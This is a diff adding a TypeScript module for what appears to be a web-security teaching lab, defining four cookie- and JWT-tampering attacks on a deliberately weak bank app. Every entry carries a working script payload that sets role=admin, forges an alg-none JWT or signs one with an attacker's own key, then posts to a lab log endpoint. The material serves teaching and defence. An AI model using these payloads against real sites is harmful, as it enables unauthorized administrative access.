@@ -1,0 +1,69 @@
+import { type Attack, notWritten } from './attack.ts';
+
+const common = {
+  lab: 'tampering',
+  goal: 'The bank opens its administration to Mallory.',
+  ground: 'console',
+  sign: { at: 'bank', method: 'GET', path: '/admin' },
+  defences: ['signed-role', 'verified-jwt-role', 'role-in-session'],
+  probe: null,
+} as const;
+
+const encode = `const part = (value) => btoa(JSON.stringify(value)).replaceAll('=', '').replaceAll('+', '-').replaceAll('/', '_');`;
+
+/** Lab 5: a customer changes the cookie that says what it may do. */
+export const tampering: readonly Attack[] = [
+  {
+    ...common,
+    id: 'tamper-plain',
+    title: 'role=user becomes role=admin',
+    story: 'The role is in a plain cookie. Mallory writes another into it.',
+    weakness: { ...notWritten, role: 'plain' },
+    exploit: `<script>
+  document.cookie = '{{role}}=admin; Path=/; Max-Age=600';
+  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'Written.' });
+</script>`,
+  },
+  {
+    ...common,
+    id: 'tamper-signed',
+    title: 'A signed cookie without its signature',
+    story:
+      'The role cookie is signed, but the bank reads it with cookieParser.signedCookie(), which gives back a value that has no signature at all. Mallory leaves the signature away.',
+    weakness: { ...notWritten, role: 'careless-signed' },
+    exploit: `<script>
+  document.cookie = '{{role}}=admin; Path=/; Max-Age=600';
+  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'Written.' });
+</script>`,
+  },
+  {
+    ...common,
+    id: 'tamper-jwt-none',
+    title: 'A JWT with alg none',
+    story: 'The role is in a JWT that the bank decodes without verifying it. Mallory writes one that is not signed.',
+    weakness: { ...notWritten, role: 'unverified-jwt' },
+    exploit: `<script>
+  ${encode}
+  const token = part({ alg: 'none', typ: 'JWT' }) + '.' + part({ role: 'admin' }) + '.';
+  document.cookie = '{{role}}=' + token + '; Path=/; Max-Age=600';
+  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'Written.' });
+</script>`,
+  },
+  {
+    ...common,
+    id: 'tamper-jwt-key',
+    title: 'A JWT signed with another key',
+    story: 'The same, but Mallory signs the token properly, with a key of her own.',
+    weakness: { ...notWritten, role: 'unverified-jwt' },
+    exploit: `<script type="module">
+  ${encode}
+  const text = part({ alg: 'HS256', typ: 'JWT' }) + '.' + part({ role: 'admin' });
+  const octets = (string) => new TextEncoder().encode(string);
+  const key = await crypto.subtle.importKey('raw', octets('mallory'), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
+  const signature = new Uint8Array(await crypto.subtle.sign('HMAC', key, octets(text)));
+  const mark = btoa(String.fromCharCode(...signature)).replaceAll('=', '').replaceAll('+', '-').replaceAll('/', '_');
+  document.cookie = '{{role}}=' + text + '.' + mark + '; Path=/; Max-Age=600';
+  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'Written.' });
+</script>`,
+  },
+];
